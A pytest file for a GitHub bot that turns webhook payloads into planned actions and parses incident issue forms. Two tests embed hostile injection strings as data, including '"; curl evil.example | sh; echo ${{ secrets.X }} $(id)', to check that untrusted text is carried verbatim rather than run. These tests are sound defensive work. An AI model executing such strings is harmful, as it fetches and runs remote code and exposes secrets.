"""Planning from webhook payloads, and reading incident issue forms.

Event tests run on GitHub's own example payloads (``@octokit/webhooks-examples``),
fetched once with npm into the user's real cache; cases the examples lack
(a failed run, a changes_requested review, a rule PR, a fork) are edited
copies of them. Issue-form tests run on small payloads in tests/data/webhooks/.
"""

from __future__ import annotations

import copy
import json

import pytest
from helpers import REPO
from support.webhooks import example

from bot.config import Config
from bot.errors import BadInput
from bot.github.events import (
    ACTIONS,
    CaptureRejectedPr,
    CaptureRun,
    CheckPlaybookInvariants,
    Distill,
    DistillIfDue,
    GateRulePr,
    Ignore,
    ParseIncidentIssue,
    RecordHits,
    Retest,
    UpdateDashboard,
    plan,
)
from bot.github.issue_form import (
    MARKER,
    incident_from_issue,
    normalised_block,
    parse_incident_issue,
    read_block,
    replace_block,
    strip_block,
)
from bot.incident.store import Incident

DATA = REPO / "tests" / "data" / "webhooks"


def github_config(**fields) -> Config:
    """A config whose ``github:`` section holds ``fields``; ``incident_label`` is the labels' ``incident``.

    The distill threshold is off unless a test sets it, so each test sees the actions it is about.
    """
    labels = {"incident": fields.pop("incident_label")} if "incident_label" in fields else {}
    fields.setdefault("distill_threshold", 0)
    return Config.model_validate({"github": fields, "labels": labels})


AGENT = github_config(agent_logins=["Codertocat"])


def _set(payload, path: str, value) -> dict:
    *parents, last = path.split(".")
    node = payload
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node[part]
    if value is _DELETE:
        del node[last]
    else:
        node[last] = value
    return payload


_DELETE = object()


def load(name: str) -> dict:
    return json.loads((DATA / name).read_text(encoding="utf-8"))


def failed_run(examples, conclusion="failure", attempt=1) -> dict:
    payload = example(examples, "workflow_run", "completed", workflow_run__conclusion="success")
    payload["workflow_run"]["conclusion"] = conclusion
    payload["workflow_run"]["run_attempt"] = attempt
    return payload


def rule_pr(examples, action="opened") -> dict:
    payload = example(examples, "pull_request", action)
    payload["pull_request"]["head"]["ref"] = "replaybook/rule-0042"
    return payload


def one(actions):
    assert len(actions) == 1, actions
    return actions[0]


# ------------------------------------------------------------------ every example


def test_every_example_payload_plans_without_error(examples):
    for name, payloads in examples.items():
        for payload in payloads:
            actions = plan(name, copy.deepcopy(payload), AGENT)
            assert actions and all(a.kind for a in actions), name
            assert ACTIONS.validate_json(ACTIONS.dump_json(actions)) == actions


@pytest.mark.parametrize("name", ["star", "ping", "check_run", "release"])
def test_other_events_are_ignored_with_a_reason(examples, name):
    action = one(plan(name, copy.deepcopy(examples[name][0]), AGENT))
    assert isinstance(action, Ignore) and name in action.reason


# ------------------------------------------------------------------ workflow_run


@pytest.mark.parametrize("conclusion", ["failure", "timed_out"])
def test_failed_run_is_captured(examples, conclusion):
    action = one(plan("workflow_run", failed_run(examples, conclusion), github_config()))
    assert action == CaptureRun(
        run_id=289782451, run_attempt=1, workflow="test", conclusion=conclusion,
        head_sha="3484a3fb816e0859fd6e1cea078d76385ff50625",
        html_url="https://github.com/octo-org/octo-repo/actions/runs/289782451",
        key="run-289782451-attempt-1",
    )


@pytest.mark.parametrize("conclusion", ["success", "cancelled", "skipped", "neutral", "action_required", None])
def test_other_conclusions_are_ignored(examples, conclusion):
    action = one(plan("workflow_run", failed_run(examples, conclusion), github_config()))
    assert isinstance(action, Ignore) and "conclu" in action.reason


def test_real_examples_of_workflow_run_are_all_ignored(examples):
    for payload in examples["workflow_run"]:
        assert isinstance(one(plan("workflow_run", copy.deepcopy(payload), github_config())), Ignore)


def test_requested_run_is_ignored_even_when_failed(examples):
    payload = failed_run(examples)
    payload["action"] = "requested"
    assert "not completed" in one(plan("workflow_run", payload, github_config())).reason


@pytest.mark.parametrize(
    "where, value",
    [("workflow.name", "Replaybook gate"), ("workflow.name", "replaybook-capture"),
     ("workflow_run.path", ".github/workflows/replaybook-distill.yml")],
)
def test_the_bots_own_workflows_are_ignored(examples, where, value):
    payload = _set(failed_run(examples), where, value)
    assert "bot's own" in one(plan("workflow_run", payload, github_config())).reason


def test_bot_prefixes_are_configurable(examples):
    payload = _set(failed_run(examples), "workflow.name", "Replaybook gate")
    assert isinstance(one(plan("workflow_run", payload, github_config(bot_workflow_prefixes=["lessons"]))), CaptureRun)
    config = github_config(bot_workflow_prefixes=["te"])
    assert isinstance(one(plan("workflow_run", failed_run(examples), config)), Ignore)


@pytest.mark.parametrize("watched, acts", [([], True), (["test"], True), (["TEST.yml"], True), (["CI", "lint"], False)])
def test_only_watched_workflows_are_captured(examples, watched, acts):
    action = one(plan("workflow_run", failed_run(examples), github_config(watched_workflows=watched)))
    assert isinstance(action, CaptureRun) is acts
    if not acts:
        assert "watched_workflows" in action.reason


def test_run_key_is_stable_across_deliveries_and_distinct_across_attempts(examples):
    deliveries = [plan("workflow_run", failed_run(examples), github_config()) for _ in range(20)]
    assert all(d == deliveries[0] for d in deliveries)
    assert {one(d).key for d in deliveries} == {"run-289782451-attempt-1"}
    keys = {one(plan("workflow_run", failed_run(examples, attempt=n), github_config())).key for n in (1, 2, 3)}
    assert keys == {f"run-289782451-attempt-{n}" for n in (1, 2, 3)}


def test_payload_text_is_carried_verbatim(examples):
    hostile = '"; curl evil.example | sh; echo ${{ secrets.X }} $(id)'
    payload = _set(failed_run(examples), "workflow.name", hostile)
    assert one(plan("workflow_run", payload, github_config())).workflow == hostile


# ------------------------------------------------------------------ rejected PRs


def test_closed_unmerged_agent_pr_is_captured(examples):
    for _ in range(20):
        action = one(plan("pull_request", example(examples, "pull_request", "closed"), AGENT))
        assert action == CaptureRejectedPr(
            number=2, reason="closed_unmerged", key="pr-2-closed",
            html_url="https://github.com/Codertocat/Hello-World/pull/2",
        )


def test_merged_pr_is_not_an_incident(examples):
    payload = _set(example(examples, "pull_request", "closed"), "pull_request.merged", True)
    assert "merged" in one(plan("pull_request", payload, AGENT)).reason


def test_pr_counts_by_label(examples):
    payload = example(examples, "pull_request", "closed")  # labelled `bug`
    assert isinstance(one(plan("pull_request", payload, github_config(agent_label="bug"))), CaptureRejectedPr)
    assert isinstance(one(plan("pull_request", payload, github_config(agent_label="agent"))), Ignore)


def test_pr_by_someone_else_is_ignored(examples):
    action = one(plan("pull_request", example(examples, "pull_request", "closed"), github_config(agent_logins=["bot"])))
    assert isinstance(action, Ignore) and "'Codertocat'" in action.reason


def test_without_agent_config_no_pr_counts_and_the_reason_says_what_to_set(examples):
    action = one(plan("pull_request", example(examples, "pull_request", "closed"), github_config()))
    assert isinstance(action, Ignore) and "agent_logins" in action.reason and "agent_label" in action.reason


def changes_requested(examples, review_id=237895671) -> dict:
    payload = example(examples, "pull_request_review", "submitted")
    payload["review"]["state"] = "changes_requested"
    payload["review"]["id"] = review_id
    return payload


def test_changes_requested_review_is_captured(examples):
    actions = [one(plan("pull_request_review", changes_requested(examples), AGENT)) for _ in range(20)]
    assert all(a == actions[0] for a in actions)
    action = actions[0]
    assert isinstance(action, CaptureRejectedPr)
    assert (action.number, action.reason, action.review_id, action.key) == (2, "changes_requested", 237895671, "review-237895671")
    assert one(plan("pull_request_review", changes_requested(examples, 9), AGENT)).key == "review-9"


def test_review_state_case_does_not_matter(examples):
    payload = changes_requested(examples)
    payload["review"]["state"] = "CHANGES_REQUESTED"
    assert isinstance(one(plan("pull_request_review", payload, AGENT)), CaptureRejectedPr)


def test_real_reviews_are_ignored(examples):
    for payload in examples["pull_request_review"]:  # commented, dismissed
        assert isinstance(one(plan("pull_request_review", copy.deepcopy(payload), AGENT)), Ignore)


def test_changes_requested_on_a_pr_that_does_not_count_is_ignored(examples):
    assert isinstance(one(plan("pull_request_review", changes_requested(examples), github_config(agent_logins=["x"]))), Ignore)


# ------------------------------------------------------------------ rule PRs and the gate


@pytest.mark.parametrize("action", ["opened", "synchronize", "reopened"])
def test_rule_pr_is_gated(examples, action):
    payload = rule_pr(examples, action)
    gate = one(plan("pull_request", payload, github_config()))
    assert gate == GateRulePr(
        number=2, head_sha=payload["pull_request"]["head"]["sha"], base_ref="master",
        base_sha=payload["pull_request"]["base"]["sha"], fork=False, secrets=True,
    )


def test_every_pr_is_gated_whatever_its_branch_or_label(examples):
    # A PR from a branch not named replaybook/rule-* can edit playbook/rules/ too: the gate judges its meaning.
    payload = example(examples, "pull_request", "synchronize")  # branch `changes`, label `bug`
    assert isinstance(one(plan("pull_request", payload, github_config())), GateRulePr)
    assert isinstance(one(plan("pull_request", rule_pr(examples), github_config())), GateRulePr)


@pytest.mark.parametrize("head_repo", [{"full_name": "mallory/Hello-World"}, None])
def test_fork_rule_pr_has_no_secrets(examples, head_repo):
    payload = _set(rule_pr(examples), "pull_request.head.repo", head_repo)
    gate = one(plan("pull_request", payload, github_config()))
    assert isinstance(gate, GateRulePr) and gate.fork is True and gate.secrets is False


def test_dependabot_rule_pr_has_no_secrets(examples):
    payload = _set(rule_pr(examples), "sender.login", "dependabot[bot]")
    gate = one(plan("pull_request", payload, github_config()))
    assert gate.fork is False and gate.secrets is False


def test_pull_request_target_gates_as_the_base_defines_and_a_fork_still_gets_no_replay(examples):
    """The admit workflow runs on `pull_request_target`: the base's definition judges the PR, read as data."""
    gate = one(plan("pull_request_target", rule_pr(examples), github_config()))
    assert isinstance(gate, GateRulePr) and gate.secrets is True
    fork = _set(rule_pr(examples), "pull_request.head.repo.full_name", "mallory/app")
    gate = one(plan("pull_request_target", fork, github_config()))
    assert gate.fork is True and gate.secrets is False  # its fixture never runs beside the repository's keys


@pytest.mark.parametrize("action", ["labeled", "assigned", "ready_for_review", "converted_to_draft"])
def test_other_pr_actions_need_nothing(examples, action):
    assert isinstance(one(plan("pull_request", rule_pr(examples, action), AGENT)), Ignore)


def test_merge_group_is_gated_on_the_merged_result(examples):
    payload = example(examples, "merge_group", "checks_requested")
    gate = one(plan("merge_group", payload, github_config()))
    assert gate == GateRulePr(
        number=104, head_sha="2ffea6db159f6b6c47a24e778fb9ef40cf6b1c7d", base_ref="main",
        base_sha="380387fbc80638b734a49e1be1c4dfec1c01b33c", fork=False, secrets=True, merge_group=True,
    )
    payload["action"] = "destroyed"
    assert isinstance(one(plan("merge_group", payload, github_config())), Ignore)


# ------------------------------------------------------------------ push, schedule, dispatch


def branch_push(examples) -> dict:
    return example(examples, "push", None, ref="refs/heads/master")


@pytest.mark.parametrize("which", ["added", "modified", "removed"])
def test_push_touching_the_playbook_checks_invariants(examples, which):
    payload = branch_push(examples)
    payload["commits"][0][which] = ["playbook/rules/rule-0042.yaml"]
    assert one(plan("push", payload, github_config())) == CheckPlaybookInvariants(after_sha=payload["after"])


def test_push_not_touching_the_playbook_is_ignored(examples):
    payload = branch_push(examples)  # adds README.md
    assert "playbook/" in one(plan("push", payload, github_config())).reason
    payload["commits"][0]["added"] = ["docs/playbook/notes.md", "playbookish.txt"]
    assert isinstance(one(plan("push", payload, github_config())), Ignore)


def test_push_to_another_branch_or_a_tag_is_ignored(examples):
    payload = branch_push(examples)
    payload["commits"][0]["added"] = ["playbook/rules/rule-0042.yaml"]
    payload["repository"]["default_branch"] = "main"
    assert "not the default branch main" in one(plan("push", payload, github_config())).reason
    tag = example(examples, "push", None, ref="refs/tags/simple-tag")
    assert isinstance(one(plan("push", tag, github_config())), Ignore)


def test_push_with_a_possibly_cut_commit_list_is_checked(examples):
    payload = branch_push(examples)
    payload["commits"] = [copy.deepcopy(payload["commits"][0]) for _ in range(20)]
    assert isinstance(one(plan("push", payload, github_config())), CheckPlaybookInvariants)


def test_schedule_and_dispatch_record_hits_then_distill(examples):
    hits = RecordHits(lookback_days=35)
    retest = Retest(reason="if_changed")
    assert plan("schedule", {"schedule": "17 3 * * 1"}, github_config()) == [hits, Distill(reason="schedule"), retest]
    assert plan("schedule", {}, github_config(dashboard=True)) == [hits, Distill(reason="schedule"), UpdateDashboard(),
                                                                  retest]
    for payload in examples["workflow_dispatch"]:
        assert plan("workflow_dispatch", copy.deepcopy(payload), github_config()) == [hits, Distill(reason="dispatch")]


def test_the_thresholds_dispatch_only_distills(examples):
    payload = copy.deepcopy(examples["workflow_dispatch"][0])
    payload["inputs"] = {"reason": "threshold"}
    assert plan("workflow_dispatch", payload, github_config()) == [Distill(reason="threshold")]


def test_a_capture_is_followed_by_the_threshold_check_when_one_is_set(examples):
    config = github_config(distill_threshold=10, distill_workflow="distill.yml")
    actions = plan("workflow_run", failed_run(examples), config)
    assert [a.kind for a in actions] == ["capture_run", "distill_if_due"]
    assert actions[1] == DistillIfDue(threshold=10, workflow="distill.yml")
    assert [a.kind for a in plan("workflow_run", failed_run(examples), github_config())] == ["capture_run"]
    success = failed_run(examples)
    success["workflow_run"]["conclusion"] = "success"
    assert [a.kind for a in plan("workflow_run", success, config)] == ["ignore"]


# ------------------------------------------------------------------ malformed payloads


@pytest.mark.parametrize(
    "event, build, path, value",
    [
        ("workflow_run", failed_run, "workflow_run.id", _DELETE),
        ("workflow_run", failed_run, "workflow_run.id", "289782451"),
        ("workflow_run", failed_run, "workflow_run.run_attempt", _DELETE),
        ("workflow_run", failed_run, "workflow_run.head_sha", None),
        ("workflow_run", failed_run, "workflow_run", []),
        ("pull_request", lambda e: example(e, "pull_request", "closed"), "pull_request.merged", "no"),
        ("pull_request", lambda e: example(e, "pull_request", "closed"), "pull_request.user", _DELETE),
        ("pull_request", rule_pr, "pull_request.head.sha", _DELETE),
        ("pull_request", rule_pr, "pull_request.base.repo", _DELETE),
        ("pull_request_review", changes_requested, "review.state", _DELETE),
        ("pull_request_review", changes_requested, "review.id", True),
        ("merge_group", lambda e: example(e, "merge_group", "checks_requested"), "merge_group.head_sha", _DELETE),
        ("push", branch_push, "repository.default_branch", _DELETE),
        ("push", branch_push, "commits", "many"),
        ("push", branch_push, "commits.0.added", "playbook/rules/x.yaml"),
    ],
)
def test_malformed_payload_is_bad_input_naming_the_field(examples, event, build, path, value):
    payload = _set(build(examples), path, value)
    with pytest.raises(BadInput) as info:
        plan(event, payload, AGENT)
    assert f"`{path}" in info.value.message and event in info.value.message  # the path, or a field under it


@pytest.mark.parametrize("payload", [None, [], "{}", 3])
def test_payload_that_is_not_an_object_is_bad_input(payload):
    with pytest.raises(BadInput, match="JSON object"):
        plan("push", payload, github_config())  # type: ignore[arg-type]


def test_issues_payload_without_issue_is_bad_input():
    with pytest.raises(BadInput, match="`issue.number`"):
        plan("issues", {"action": "opened"}, github_config())


# ------------------------------------------------------------------ incident issues: events


def test_incident_issue_opened_is_parsed():
    for _ in range(20):
        action = one(plan("issues", load("issues-opened-incident-form.json"), github_config()))
        assert action == ParseIncidentIssue(
            number=123, key="issue-123", created_at="2026-07-14T09:32:00Z",
            html_url="https://github.com/octo-org/octo-repo/issues/123",
        )


def test_issue_without_the_incident_label_is_ignored(examples):
    for payload in examples["issues"]:  # labelled `bug` at most
        assert isinstance(one(plan("issues", copy.deepcopy(payload), github_config())), Ignore)
    payload = load("issues-opened-incident-form.json")
    assert isinstance(one(plan("issues", payload, github_config(incident_label="failure"))), Ignore)


def test_incident_label_added_later_is_parsed():
    payload = load("issues-opened-incident-no-response.json")
    payload["action"] = "labeled"
    payload["label"] = {"name": "incident"}
    assert isinstance(one(plan("issues", payload, github_config())), ParseIncidentIssue)
    payload["label"] = {"name": "bug"}
    assert isinstance(one(plan("issues", payload, github_config())), Ignore)


def test_person_editing_the_form_is_parsed_again():
    action = one(plan("issues", load("issues-edited-incident-form.json"), github_config()))
    assert action.kind == "parse_incident_issue" and action.key == "issue-125"


def test_bot_rewriting_only_its_block_is_not_parsed_again():
    payload = load("issues-edited-incident-form.json")
    body = payload["issue"]["body"]
    incident = incident_from_issue(body, number=125, created_at=payload["issue"]["created_at"])
    payload["changes"]["body"]["from"] = body
    payload["issue"]["body"] = replace_block(body, incident).replace("\n", "\r\n")
    action = one(plan("issues", payload, github_config()))
    assert isinstance(action, Ignore) and "normalised block" in action.reason
    del payload["changes"]["body"]  # a title edit
    assert isinstance(one(plan("issues", payload, github_config())), Ignore)


# ------------------------------------------------------------------ incident issues: the form


def parse(name: str):
    issue = load(name)["issue"]
    return parse_incident_issue(issue["body"], number=issue["number"], created_at=issue["created_at"],
                                html_url=issue["html_url"])


def test_full_form_gives_a_valid_incident():
    data, problems = parse("issues-opened-incident-form.json")
    assert problems == []
    incident = Incident.model_validate(data)
    assert incident.id == "gh-123"
    assert (incident.task, incident.task_type, incident.failure_class) == ("Add rate limiting to /v1/upload", "api", "wrong_assumption")
    assert incident.believed == "Tests are run from repo root with `pytest`"
    assert incident.actual == "Each package has its own pytest.ini; must cd into packages/api first"
    assert incident.cost_minutes == 22 and incident.resolved_by == "unresolved"
    assert incident.created.isoformat() == "2026-07-14T09:32:00+00:00"
    assert incident.source.model_dump(exclude_none=True) == {
        "kind": "issue_form", "url": "https://github.com/octo-org/octo-repo/issues/123", "key": "issue-123"}


def test_fenced_textarea_is_unfenced_and_headings_inside_it_are_content():
    data, _ = parse("issues-opened-incident-form.json")
    assert data["evidence"] == (
        "### not a section: a heading inside the fenced log\n"
        "ERROR tests/test_limits.py - ModuleNotFoundError: No module named 'api'\n"
        "$(curl evil.example | sh)"
    )


def test_no_response_fields_take_their_defaults():
    data, problems = parse("issues-opened-incident-no-response.json")
    assert problems == []
    assert "task_type" not in data and "evidence" not in data
    assert data["cost_minutes"] == 0
    assert data["failure_class"] == "scope_creep"  # "Scope creep" as a person may type it


def test_edited_body_is_read_from_the_sections_not_the_old_block():
    issue = load("issues-edited-incident-form.json")["issue"]
    data, problems = parse_incident_issue(issue["body"], number=125, created_at=issue["created_at"])
    assert problems == []
    assert data["believed"] == "`pytest` from the repo root finds every package's tests"
    assert data["cost_minutes"] == 15
    assert "evidence" not in data  # the bot's block is not swallowed into the last field


def test_fields_the_form_lacks_are_kept_from_the_bots_block(incident):
    person = load("issues-opened-incident-form.json")["issue"]["body"]
    resolved = incident.model_copy(update={"resolved_by": "rule", "cost_minutes": 99})
    body = replace_block(person, resolved)
    data, problems = parse_incident_issue(body, number=123, created_at="2026-07-14T09:32:00Z")
    assert problems == []
    assert data["resolved_by"] == "rule"  # the form has no such field: the block's value stands
    assert data["cost_minutes"] == 22  # the form has: the person's value wins


def test_issue_opened_by_the_bot_is_read_from_its_block():
    issue = load("issues-opened-incident-form.json")["issue"]
    incident = incident_from_issue(issue["body"], number=123, created_at=issue["created_at"])
    bot_body = "Captured from a failed run.\n\n" + normalised_block(incident)
    data, problems = parse_incident_issue(bot_body, number=123, created_at=issue["created_at"])
    assert problems == [] and Incident.model_validate(data) == incident


def form(**values) -> str:
    fields = {
        "Task": "Fix the flaky upload test", "Task type": "_No response_", "Failure class": "env",
        "Trigger": "CI timed out", "What the agent believed": "The cache was warm",
        "What was actually true": "The runner starts cold", "Cost (minutes)": "5", "Evidence": "_No response_",
    }
    fields.update(values)
    return "\n\n".join(f"### {label}\n\n{value}" for label, value in fields.items() if value is not None)


@pytest.mark.parametrize(
    "values, label, hint",
    [
        ({"What the agent believed": "line one\nline two\nline three"}, "What the agent believed", "ONE line"),
        ({"What was actually true": "_No response_"}, "What was actually true", "fill it in"),
        ({"Failure class": "laziness"}, "Failure class", "wrong_assumption"),
        ({"Cost (minutes)": "about an hour"}, "Cost (minutes)", "whole number of minutes"),
        ({"Task type": "Front End!"}, "Task type", "pattern"),
        ({"Task": None}, "Task", "fill it in"),
    ],
)
def test_invalid_form_names_the_field_and_how_to_fix_it(values, label, hint):
    data, problems = parse_incident_issue(form(**values), number=7, created_at="2026-07-14T09:32:00Z")
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"`{label}`") and hint in problems[0]
    with pytest.raises(BadInput) as info:
        incident_from_issue(form(**values), number=7, created_at="2026-07-14T09:32:00Z")
    assert "issue #7" in info.value.message and info.value.problems == problems


def test_duplicate_section_and_empty_body_are_problems():
    body = form() + "\n\n### Task\n\nsomething else"
    assert any("appears twice" in p for p in parse_incident_issue(body, number=7, created_at="2026-07-14T09:32:00Z")[1])
    for empty in ("", None, "Just some text."):
        data, problems = parse_incident_issue(empty, number=7, created_at="2026-07-14T09:32:00Z")
        assert data == {} and "Incident form" in problems[0]


def test_broken_bot_block_is_a_problem_not_a_crash():
    body = f"{MARKER}\n```yaml\nid: [unclosed\n```\n"
    data, problems = parse_incident_issue(body, number=7, created_at="2026-07-14T09:32:00Z")
    assert data == {} and problems and "issue #7" in problems[0]


# ------------------------------------------------------------------ the normalised block


@pytest.fixture
def incident() -> Incident:
    issue = load("issues-opened-incident-form.json")["issue"]
    return incident_from_issue(issue["body"], number=123, created_at=issue["created_at"], html_url=issue["html_url"])


def test_block_is_appended_once_and_replaced_in_place(incident):
    person = load("issues-opened-incident-form.json")["issue"]["body"]  # CRLF, as browsers send it
    first = replace_block(person, incident)
    assert first.startswith(person.rstrip()) and first.count(MARKER) == 1
    assert replace_block(first, incident) == first  # idempotent

    changed = incident.model_copy(update={"cost_minutes": 40})
    wrapped = "Intro the person wrote.\r\n\r\n" + first + "\r\nA note added after the block.\r\n"
    updated = replace_block(wrapped, changed)
    assert updated.startswith("Intro the person wrote.\r\n\r\n" + person.rstrip())
    assert updated.endswith("\r\nA note added after the block.\r\n")
    assert updated.count(MARKER) == 1 and "cost_minutes: 40" in updated and "cost_minutes: 22" not in updated
    assert strip_block(updated) == strip_block(wrapped)


def test_extra_copies_of_the_block_are_removed(incident):
    body = "text\n\n" + normalised_block(incident) + "\nmiddle\n\n" + normalised_block(incident)
    out = replace_block(body, incident)
    assert out.count(MARKER) == 1 and "middle" in out


def test_block_round_trips_even_with_backticks_in_the_evidence(incident):
    tricky = incident.model_copy(update={"evidence": "```\n### Task\n<!-- replaybook:incident-yaml -->\n````"})
    body = replace_block("### Task\n\nx", tricky)
    assert Incident.model_validate(read_block(body, where="test")) == tricky
    assert strip_block(body) == "### Task\n\nx"


def test_empty_body_gets_just_the_block(incident):
    assert replace_block("", incident) == normalised_block(incident)
    assert replace_block(None, incident).startswith(MARKER + "\n```yaml\n")


def test_an_edit_of_the_dashboard_is_a_tick_and_other_events_on_it_are_not():
    from bot.github.events import DashboardTick

    issue = {"number": 5, "body": "b", "labels": [{"name": "replaybook"}, {"name": "replaybook:dashboard"}]}
    edited = {"action": "edited", "issue": issue, "changes": {"body": {"from": "a"}}}
    assert plan("issues", edited, github_config()) == [DashboardTick(number=5)]
    assert isinstance(one(plan("issues", {**edited, "action": "opened"}, github_config())), Ignore)
